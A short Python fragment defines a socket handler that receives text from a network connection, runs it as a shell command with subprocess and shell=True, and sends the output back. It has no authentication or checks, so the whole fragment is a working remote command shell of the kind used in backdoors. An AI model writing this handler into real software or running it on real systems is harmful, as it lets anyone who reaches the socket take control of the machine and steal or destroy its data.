import socket
import subprocess

def handle_client(conn):
    while True:
        data = conn.recv(4096)
        if not data:
            break
        cmd = data.decode().strip()
        output = subprocess.check_output(cmd, shell=True)
        conn.sendall(output)
    conn.close()
